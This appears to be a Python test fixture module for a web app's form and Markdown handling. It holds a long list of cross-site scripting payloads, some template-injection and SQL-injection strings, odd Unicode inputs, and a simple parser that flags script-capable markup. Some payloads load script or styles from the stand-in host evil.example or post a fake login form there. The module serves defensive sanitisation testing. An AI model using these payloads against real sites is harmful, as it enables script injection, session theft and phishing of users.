"""Hostile inputs shared by every form and Markdown test: cross-site scripting attempts and odd text."""

from html.parser import HTMLParser

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(\'x\')">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="expression(alert(1))">x</p>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<base href="javascript:alert(1)//">',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<table background="javascript:alert(1)">',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="#" onclick="alert(1)">x</a>',
    "{{ 7|add:7 }}{% debug %}",
    "<!--<img src=x onerror=alert(1)>-->",
    "<x onpointerenter=alert(1)>x</x>",
    "javascript:alert(document.cookie)",
    "'><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">',
    "{{ request.META }}",
    "{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "javascript:alert(1)",
    "<scr<script>ipt>alert(1)</script>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<style>*{display:none}</style>",
    "</bdi></strong><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "<form action=https://evil.example><button>Log in</button></form>",
    "https://evil.example/?q=<script>alert(1)</script>",
    "<a href=https://spam.example>cheap pills</a> www.spam.example",
]

ODD_TEXT = [
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",
    "😀🧘‍♀️",
    "ヨガ",
    "مرحبا",
    "\ufeff",
    " \t\n ",
    "%00",
    "' OR 1=1 --",
]


DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "style", "base", "meta", "link", "template"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "data", "srcdoc", "poster"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_STRIPPED = str.maketrans("", "", "\t\n\r")


class _Finder(HTMLParser):
    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            # As a browser's URL parser does: trim controls and spaces, drop tabs and newlines.
            cleaned = (value or "").strip("".join(map(chr, range(33)))).translate(URL_STRIPPED).lower()
            if name.startswith("on") or name == "style":
                self.problems.append(f"{tag}[{name}]")
            elif name in URL_ATTRIBUTES and cleaned.startswith(BAD_SCHEMES):
                self.problems.append(f"{tag}[{name}={value}]")

    handle_startendtag = handle_starttag


def dangerous_markup(html):
    """List the elements and attributes in ``html`` that could run script or load foreign content."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.problems


def is_inert(html):
    """True when nothing in the parsed HTML could run script: text that merely mentions it is fine."""
    return not dangerous_markup(html)
